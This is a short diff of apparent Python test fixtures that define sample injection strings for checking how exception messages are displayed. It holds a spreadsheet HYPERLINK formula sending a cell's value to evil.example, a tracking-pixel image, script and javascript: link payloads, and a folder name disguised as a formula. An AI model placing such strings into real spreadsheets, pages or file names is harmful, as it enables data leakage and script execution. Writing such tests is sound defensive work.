@@ -929,8 +929,8 @@ DISK_FILLER = Edit("vae_loss", "def vae_loss(", dedent("""\
     def vae_loss("""))
 
 # What a spreadsheet would run and a Markdown viewer would show as HTML and links, in an exception's message.
-INERT_PAYLOAD = ('=HYPERLINK("http://evil.example/?leak="&A1,"x") <img src="http://track.example/p.gif"> '
-                 '<script>alert(1)</script> [grades](javascript:alert(1)) `code`')
+INERT_PAYLOAD = ('[grades](javascript:alert(1)) <img src="http://track.example/p.gif"> <script>alert(1)</script> '
+                 '`code` =HYPERLINK("http://evil.example/?leak="&A1)')
 FORMULA_FOLDER = '=HYPERLINK("http:\u2215\u2215evil.example","x")'  # a folder name cannot hold "/"
 
 
